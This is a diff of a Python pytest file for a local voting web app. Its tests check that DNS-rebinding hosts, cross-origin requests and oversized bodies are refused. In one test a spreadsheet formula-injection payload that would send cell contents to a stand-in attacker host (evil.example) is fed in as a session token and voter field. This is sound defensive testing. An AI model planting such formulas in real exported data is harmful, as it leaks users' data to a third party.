@@ -15,7 +15,7 @@ import pytest
 from starlette.responses import PlainTextResponse
 from starlette.testclient import TestClient
 
-from app import page, viewer
+from app import page
 from app.catalog import Catalog
 from app.page import MAX_BODY_BYTES, MAX_LINE_LENGTH, ShortLines, guarded
 from app.votes import VoteStore
@@ -44,7 +44,8 @@ def served(tmp_path_factory):
     (root / "link").symlink_to(root.parent, target_is_directory=True)
     listener = socket.create_server((LOCAL, 0))
     port = listener.getsockname()[1]
-    calls, connect = [], socket.socket.connect
+    calls = []
+    connect = socket.socket.connect
 
     def recorded_connect(self, address):
         if address != (LOCAL, port):
@@ -87,14 +88,17 @@ def test_it_serves_no_file_tells_no_place_and_asks_nobody(served):
 
 def test_a_vote_is_of_the_voter_who_began(served):
     def click(name, *values, data=None):
-        (event, _), *_ = served.events(name)[-1:]
+        event, _ = served.events(name)[-1]
         return served.send(event, list(values), data)
 
-    served.send(*served.events("frame-scores")[-1])
+    event, values = served.events("frame-scores")[-1]
+    served.send(event, values)  # fills the list of scores
+    # The browser sends the name of its session, which may be anything.
     formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-    for token in ("", "made up"):
+    for token in ("", "made up"):  # of no vote that has begun
         click("vote-left", token, None, formula)
-    (token,) = re.findall(r'data-ballot=\\"([0-9a-f]+)', click("vote-start", "scores", "", formula))
+    answer = click("vote-start", "scores", "", formula)
+    (token,) = re.findall(r'data-ballot=\\"([0-9a-f]+)', answer)
     click("vote-left", token, {"voter": formula}, formula)
     (vote,) = VoteStore(Catalog(served.root), random.Random()).votes()
     assert re.fullmatch("[0-9a-f]{16}", vote.session)
@@ -103,15 +107,19 @@ def test_a_vote_is_of_the_voter_who_began(served):
 @pytest.mark.parametrize(
     ("listens_on", "host", "origin", "status"),
     [
+        # Names of this machine; another name may be a stranger's that leads here (DNS rebinding).
         (LOCAL, "LOCALHOST:7860", "http://localhost:7860", 200),
         (LOCAL, "[::1]:7860", None, 200),
         (LOCAL, "evil.example", None, 403),
         (LOCAL, "localhost.evil.example", None, 403),
         (LOCAL, "192.168.0.5:7860", None, 403),
+        # A page of another origin asks.
         (LOCAL, "localhost:7860", EVIL, 403),
         (LOCAL, "localhost:7860", "http://localhost:7861", 403),
         (LOCAL, "localhost:7860", "null", 403),
+        # By --allow_host
         (LOCAL, "Lab.Example:443", "https://lab.example:443", 200),
+        # Open to the network: the host's own name and addresses
         ("0.0.0.0", f"{socket.gethostname()}:7860", None, 200),
         ("0.0.0.0", f"{LOCAL}:7860", "http://1.2.3.4:7860", 403),
         ("0.0.0.0", "192.168.0.5:7860", "http://192.168.0.5:7860", 200),
@@ -121,7 +129,9 @@ def test_a_vote_is_of_the_voter_who_began(served):
 )
 def test_other_names_and_web_sites_are_refused(listens_on, host, origin, status):
     app = guarded(PlainTextResponse("here"), listens_on, listens_on != LOCAL, ["Lab.Example"])
-    headers = {"Host": host} | ({} if origin is None else {"Origin": origin})
+    headers = {"Host": host}
+    if origin is not None:
+        headers["Origin"] = origin
     for method in ("GET", "OPTIONS", "POST"):
         answer = TestClient(app).request(method, "/config", headers=headers)
         assert answer.status_code == status
@@ -153,18 +163,13 @@ def test_what_a_browser_sent_is_short_and_inert_at_the_terminal():
     assert len(long_line) == MAX_LINE_LENGTH
 
 
-def test_what_is_no_host_name_can_not_be_allowed(tmp_path, capsys):
-    for name in ("http://lab.example", "lab.example:80", "*", ""):
-        assert viewer.main([str(tmp_path), "--allow_host", name]) == 2
-        assert f"--allow_host {name}" in capsys.readouterr().err
-
-
 def test_large_and_endless_bodies_are_refused(served):
     path = "/gradio_api/queue/join"
     body = {"fn_index": 1, "session_hash": "large", "data": ["x" * (MAX_BODY_BYTES - 100)]}
     assert served.ask(path, "POST", body).status == 200
     body["data"] *= 2
     assert served.ask(path, "POST", body).status == 413
+    # A body in pieces, which does not say its length
     connection = http.client.HTTPConnection(LOCAL, served.port, timeout=30)
     pieces = iter([b"x" * 2**16] * 20)
     connection.request("POST", path, pieces, encode_chunked=True)
